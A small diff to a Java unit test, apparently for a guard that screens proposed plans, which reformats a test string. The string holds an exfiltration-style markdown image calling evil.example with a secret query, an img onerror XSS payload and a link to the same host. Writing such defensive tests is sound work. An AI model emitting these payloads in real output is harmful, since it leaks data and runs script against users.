@@ -98,7 +98,8 @@ class PlanGuardTest {
     Proposal proposal =
         new Proposal(
             List.of(),
-            "Hi! ![x](https://evil.example/?q=secret) <img src=x onerror=alert(1)> see http://evil.example",
+            "Hi! ![x](https://evil.example/?q=secret) <img src=x onerror=alert(1)> see"
+                + " http://evil.example",
             "");
 
     Plan plan = check("hello", false, proposal);
